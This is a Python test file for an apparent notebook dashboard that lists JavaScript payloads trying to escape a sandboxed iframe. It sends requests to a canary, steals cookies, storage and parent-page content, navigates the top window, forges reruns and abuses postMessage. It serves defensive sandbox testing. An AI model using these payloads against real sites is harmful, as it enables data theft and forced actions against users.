"""What script in a sandboxed frame may try: it runs there by design, and must reach nothing.

In each, ``C`` is an address of the canary; ``L(name, value)`` tells what could be read.
"""

from __future__ import annotations

from collections.abc import Iterable

from tests.xss.payloads import Payload

_ADD = "document.body.insertAdjacentHTML('beforeend', "
_LINK = "const l = document.createElement('link'); l.rel = '{}'; l.as = 'image'; l.href = C; document.head.append(l)"
_PEER = (
    "const p = new RTCPeerConnection({{iceServers: [{{urls: '{}:' + new URL(C).host + '{}', username: 'u', "
    "credential: 'c'}}]}}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
)
_INNER = "<img src=' + C + '><script>fetch(\"' + C + '/f\").catch(() => 0); location = \"' + C + '/n\"</' + 'script>"

ESCAPES = {
    # Requests.
    "fetch": "fetch(C, {mode: 'no-cors', credentials: 'include'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', C); x.send('x')",
    "beacon": "navigator.sendBeacon(C, 'x')",
    "keepalive": "addEventListener('pagehide', () => fetch(C, {keepalive: true, mode: 'no-cors'})); "
    "location = 'about:blank'",
    "picture": "new Image().src = C",
    "video": _ADD + "'<video src=' + C + ' poster=' + C + ' autoplay></video>')",
    "font": "new FontFace('f', 'url(' + C + ')').load()",
    "style": _ADD + "'<style>@import \"' + C + '.css\"; body { background: url(' + C + ') }</style>')",
    "svg": _ADD + "'<svg><use href=\"' + C + '.svg#x\"/><image href=\"' + C + '\"/></svg>')",
    "script": "const s = document.createElement('script'); s.src = C + '.js'; document.head.append(s)",
    "import": "import(C + '.js')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + C + '\"); importScripts(\"' + C + '.js\")'])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + C + '\")'])))",
    "service-worker": "navigator.serviceWorker.register(C + '.js')",
    "web-socket": "new WebSocket(C.replace('http', 'ws'))",
    "event-source": "new EventSource(C)",
    "web-transport": "new WebTransport(C.replace('http:', 'https:'))",
    "stun": _PEER.format("stun", ""),
    "turn": _PEER.format("turn", "?transport=tcp"),
    "peer-in-a-frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>const C = \"' + C + '\"; "
    + _PEER.format("stun", "").replace("'", '"')
    + "</' + 'script>'; document.body.append(f)",
    "preconnect": _LINK.format("preconnect"),
    "dns-prefetch": _LINK.format("dns-prefetch"),
    "prefetch": _LINK.format("prefetch"),
    "preload": _LINK.format("preload"),
    "module-preload": _LINK.format("modulepreload"),
    "icon": _LINK.format("icon"),
    "manifest": _LINK.format("manifest"),
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({prefetch: [{source: 'list', urls: [C], eagerness: 'immediate'}], "
    "prerender: [{source: 'list', urls: [C], eagerness: 'immediate'}]}); document.head.append(s)",
    "payment": "new PaymentRequest([{supportedMethods: C}], "
    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "sql-css": _ADD + "'<link rel=stylesheet href=\"data:text/css,*{background:url(' + C + ')}\">')",
    "base": "document.write('<base href=\"' + C + '\"><img src=x>')",
    # Going somewhere.
    "go": "location = C",
    "replace": "location.replace(C)",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + C + '\">')",
    "go-top": "top.location = C",
    "go-top-script": "top.location = 'javascript:X(\"top\")'",
    "go-parent": "parent.location.replace(C)",
    "open": "const w = open(C); if (w) L('open', w)",
    "open-blank": "open('about:blank', '_blank').document.write('<img src=' + C + '>')",
    "link": _ADD + "'<a id=q href=' + C + ' ping=' + C + '/ping>x</a>'); q.click()",
    "link-top": _ADD + "'<a id=q target=_top href=' + C + ' ping=' + C + '/ping>x</a>'); q.click()",
    "link-blank": _ADD + "'<a id=q target=_blank rel=opener href=' + C + '>x</a>'); q.click()",
    "download": _ADD + "'<a id=q download href=' + C + '>x</a>'); q.click()",
    "form": _ADD + "'<form id=q method=post action=' + C + '></form>'); q.submit()",
    "form-top": _ADD + "'<form id=q method=post target=_top action=' + C + '></form>'); q.requestSubmit()",
    "frame": _ADD + "'<iframe src=' + C + '></iframe>')",
    "frame-srcdoc": f"const f = document.createElement('iframe'); f.srcdoc = '{_INNER}'; document.body.append(f)",
    "frame-blob": "const f = document.createElement('iframe'); "
    f"f.src = URL.createObjectURL(new Blob(['{_INNER}'], {{type: 'text/html'}})); document.body.append(f)",
    "frame-unsandboxed": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin "
    f"allow-top-navigation allow-popups'; f.srcdoc = '{_INNER}'; document.body.append(f)",
    "object": _ADD + "'<object data=' + C + '.svg></object><embed src=' + C + '.svg>')",
    "go-blob": f"location = URL.createObjectURL(new Blob(['{_INNER}'], {{type: 'text/html'}}))",
    "go-data": "location = 'data:text/html,<img src=' + C + '>'",
    "go-script": "location = 'javascript:\"<img src=' + C + '>\"'",
    "back": "history.back(); history.go(-1)",
    "many-back": "for (let i = 0; i < 9; i += 1) history.go(-i - 1)",
    "navigate": "navigation.navigate(C)",
    # Reading what is not its own.
    "cookie": "L('cookie', document.cookie)",
    "cookie-store": "cookieStore.getAll().then((all) => L('cookies', all))",
    "storage": "L('localStorage', localStorage.getItem('nbdash-theme'))",
    "session": "L('sessionStorage', sessionStorage.length)",
    "database": "indexedDB.open('x').onsuccess = () => L('indexedDB', 'open')",
    "caches": "caches.keys().then((all) => L('caches', all))",
    "parent-page": "L('parent', parent.document.body.innerHTML)",
    "top-page": "L('top', top.document.title)",
    "top-address": "L('address', top.location.href)",
    "element": "L('frameElement', frameElement.outerHTML)",
    "sibling": "for (let i = 0; i < top.frames.length; i += 1) if (top.frames[i] !== self) "
    "L('sibling', top.frames[i].document.body.innerHTML)",
    "referrer": "if (/runs|[?]/.test(document.referrer)) L('referrer', document.referrer)",
    "own-server": "fetch('/').then((r) => r.text()).then((text) => L('index', text))",
    "own-picture": "const i = new Image(); i.onload = () => L('picture', i.src); i.src = '/-/static/icon.svg'",
    "clipboard": "navigator.clipboard.readText().then((text) => L('clipboard', text))",
    "place": "navigator.geolocation.getCurrentPosition((at) => L('place', at.coords.latitude))",
    "camera": "navigator.mediaDevices.getUserMedia({video: true}).then(() => L('camera', 'on'))",
    # Doing what only the page may do.
    "alert": "alert('x'); confirm('x'); prompt('x'); print()",
    "press-rerun": "top.document.getElementById('rerun').click()",
    "post-rerun": "fetch(ancestorOf() + '/runs', {method: 'POST', mode: 'no-cors', credentials: 'include'})",
    "form-rerun": "const f = document.createElement('form'); f.method = 'post'; f.action = ancestorOf() + '/runs'; "
    "document.body.append(f); f.submit()",
    "form-rerun-top": "const f = document.createElement('form'); f.method = 'post'; f.target = '_top'; "
    "f.action = ancestorOf() + '/runs'; document.body.append(f); f.requestSubmit()",
    "key": "parent.dispatchEvent(new KeyboardEvent('keydown', {key: 'r', bubbles: true}))",
    "message": "for (const m of [{nbdashHeight: '<img src=x onerror=X(\"message\")>'}, {nbdashHeight: {valueOf() {}}}, "
    "{__proto__: {nbdashHeight: 1e9}}, null, 'r']) try { parent.postMessage(m, '*') } catch { /* not cloneable */ }",
    "lift-sandbox": "frameElement.removeAttribute('sandbox'); location.reload()",
    "full-screen": "document.documentElement.requestFullscreen().then(() => L('screen', 'full'))",
    "lock-pointer": "document.body.requestPointerLock().then(() => L('pointer', 'locked'))",
}

#: Chromium refuses these by a header, which a file cannot have.
WEB_RTC = ("stun", "turn")
#: The header makes Chromium 156 end the page itself, instead of refusing.
CRASHES = ("peer-in-a-frame",)


def escape_html(name: str, canary: str) -> str:
    """An output that tries it."""
    address = f"{canary}/escape/{name}"
    return (
        f"<p>{name}</p><script>const C = '{address}'; self.X?.('escape {name}');"
        "const L = self.L ?? ((id, value) => console.debug(`xss ${JSON.stringify({kind: 'leaked', id, value})}`));"
        "const ancestorOf = () => location.href.split('/runs/')[0];\n"
        f"{ESCAPES[name]};</script>"
    )


def escapes_for(canary: str, names: Iterable[str]) -> list[Payload]:
    """These as outputs, each with a number of its own."""
    return [Payload(id, escape_html(name, canary)) for id, name in enumerate(names)]
